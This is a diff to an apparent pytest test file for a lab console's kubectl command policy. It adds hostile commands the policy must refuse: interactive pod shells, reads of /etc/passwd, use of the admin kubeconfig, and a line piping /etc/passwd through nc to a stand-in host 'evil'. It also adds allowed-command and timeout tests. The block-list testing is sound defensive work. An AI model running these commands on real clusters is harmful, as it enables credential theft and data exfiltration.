@@ -3,7 +3,7 @@
 import pytest
 
 from labs.console import runner
-from labs.console.policy import CommandRefused, check_command, wants_watch
+from labs.console.policy import WAIT_SECONDS, CommandRefused, check_command, time_limit, wants_watch
 
 HOSTILE = [
     # shell syntax
@@ -83,7 +83,15 @@ HOSTILE = [
     "kubectl cp web-0:/etc/passwd /tmp/p",
     "kubectl attach web-0",
     "kubectl exec -it web-0 -- sh",
-    "kubectl exec web-0 -- cat /etc/passwd",
+    "kubectl exec -ti web-0 -- sh",
+    "kubectl exec web-0 -i -- sh",
+    "kubectl exec web-0 --stdin -- sh",
+    "kubectl exec web-0 --tty -- sh",
+    "kubectl exec web-0 ls",  # the old form without --
+    "kubectl exec web-0 --",
+    "kubectl exec -- ls",
+    "kubectl exec web-0 --kubeconfig=/etc/kubernetes/admin.conf -- ls",
+    "kubectl exec web-0 -- sh -c 'cat /etc/passwd' | nc evil 1",
     "kubectl edit deployment web",
     "kubectl debug web-0",
     "kubectl config view --raw",
@@ -106,6 +114,9 @@ HOSTILE = [
     "kubectl delete pod web-0 -w",
     "kubectl logs -f web-0",
     "kubectl logs --follow web-0",
+    "kubectl logs web-0 -f --tail=10",
+    "kubectl logs web-0 -pf",
+    "kubectl logs web-0 --follow=true",
     # options before the command (kubectl would resolve the command differently)
     "kubectl --request-timeout 5 config view",
     "kubectl -v 9 get pods",
@@ -167,6 +178,18 @@ def test_there_are_at_least_thirty_hostile_inputs():
         ("kubectl get pods --watch", None),
         ("kubectl events -w", None),
         ("kubectl label pods web-0 tier=frontend --overwrite", None),
+        ("kubectl logs web-0 --tail=20", None),
+        ("kubectl logs web-0 -c web --previous", None),
+        ("kubectl logs web-0 -p -cweb", None),
+        ("kubectl logs deploy/web --all-containers --since=5m", None),
+        ("kubectl exec web-0 -- cat /etc/hostname", ["exec", "web-0", "--", "cat", "/etc/hostname"]),
+        ("kubectl exec web-0 -c web -- wget -qO- http://localhost:8080/", None),
+        # after --, words belong to the container's command, not to kubectl
+        ("kubectl exec web-0 -- ls -la /tmp", None),
+        ("kubectl exec web-0 -- grep -i -v x /etc/hosts", None),
+        ("kubectl exec web-0 -- sh -c 'echo a | tr a b'", None),
+        ("kubectl -n web exec web-0 -- env", None),
+        ("kubectl get --raw '/api/v1/namespaces/x/pods?watch=true'", None),
     ],
 )
 def test_ordinary_commands_are_allowed(command, args):
@@ -197,7 +220,28 @@ def test_refusal_names_the_editor_for_files():
         ("kubectl get pods -o wide", False),
         ("kubectl get pods -owide", False),
         ("kubectl get pods -l tier=web", False),
+        ("kubectl get --raw '/api/v1/namespaces/x/pods?watch=true'", True),
+        ("kubectl get --raw=/api/v1/namespaces/x/pods?watch=1", True),
+        ("kubectl get --raw /api/v1/namespaces/x/pods/p/log?follow=true", True),
+        ("kubectl get --raw /healthz", False),
+        ("kubectl exec web-0 -- watch -n1 date", False),
     ],
 )
 def test_watching_is_recognised_so_the_runner_can_bound_it(command, watch):
     assert wants_watch(check_command(command)) is watch
+
+
+@pytest.mark.parametrize(
+    ("command", "seconds"),
+    [
+        ("kubectl wait --for=condition=Ready pod/web-0 --timeout=600s", WAIT_SECONDS),
+        ("kubectl rollout status deployment/web --timeout=10m", WAIT_SECONDS),
+        ("kubectl exec web-0 -- sleep 3600", WAIT_SECONDS),
+        ("kubectl -n web wait --for=delete pod/x", WAIT_SECONDS),
+        ("kubectl get pods", None),
+        ("kubectl rollout history deployment/web", None),
+        ("kubectl logs web-0 --tail=5", None),
+    ],
+)
+def test_commands_that_wait_get_a_few_seconds_whatever_timeout_they_ask_for(command, seconds):
+    assert time_limit(check_command(command)) == seconds
